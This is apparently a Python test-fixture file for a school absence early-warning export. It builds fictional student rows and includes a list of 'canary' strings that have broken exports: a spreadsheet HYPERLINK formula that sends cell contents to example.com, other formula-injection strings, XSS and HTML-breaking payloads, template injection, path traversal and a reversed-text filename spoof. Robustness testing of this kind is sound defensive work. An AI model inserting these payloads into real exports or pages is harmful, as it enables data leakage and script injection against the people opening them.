"""Lists small enough to read, and the texts that have broken other people's exports."""

from __future__ import annotations

import datetime as dt
from typing import Any

import pandas as pd

from ews.outreach.lists import ListContext

AS_OF = dt.date(2026, 1, 12)
CANARIES = [
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<img src=x onerror=alert(1)>",
    "</td></table><script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "../../x",
    "‮gnp.exe‬",
    'quote " and, comma\nand line',
    "Ünï Çødé 名前",
    "x" * 300,
]


def student(student_id: str, school_id: str = "s1", /, **changes: Any) -> dict[str, Any]:
    row = {
        "school_id": school_id,
        "rank": 1,
        "student_id": student_id,
        "first_name": "Maya",
        "last_name": "Okafor",
        "homeroom": "12",
        "grade": "03",
        "section": "prevent",
        "absences": 6.5,
        "enrolled_days": 80,
        "absence_rate": 0.08125,
        "excused_share": 0.5,
        "absences_left": 11,
        "reason_1": "Missed 4 of the last 10 school days",
        "reason_2": "Missed 12% of last school year",
        "reason_3": "",
        "going_well_1": "No absence in the last 20 school days",
        "going_well_2": "",
        "change": "new",
        "weeks_on_list": 0,
        "contact": "",
    }
    return row | changes


def schools(**names: str) -> pd.DataFrame:
    given = names or {"s1": "Lincoln Elementary", "s2": "Roosevelt Middle", "s3": "Empty High"}
    return pd.DataFrame({"school_id": list(given), "school_name": list(given.values())})


def context(**changes: Any) -> ListContext:
    given: dict[str, Any] = {
        "district": "Riverbend",
        "as_of": AS_OF,
        "schools": schools(),
        "model_version": "ews-chronic-absence 7",
        "show_names": True,
    }
    return ListContext(**(given | changes))


def two_schools() -> pd.DataFrame:
    """School s1: two of each section, out of order; s2: one; s3: nobody."""
    return pd.DataFrame(
        [
            student("104", section="intensive", rank=2, change="stays", absences_left=0),
            student("102", rank=2, excused_share=None, absences=0.0, absence_rate=0.0, change="up"),
            student("103", section="intensive", rank=1, absences=20.0, absence_rate=0.25, absences_left=0),
            student("101", rank=1),
            student("201", "s2", last_name="Haddad"),
        ]
    )
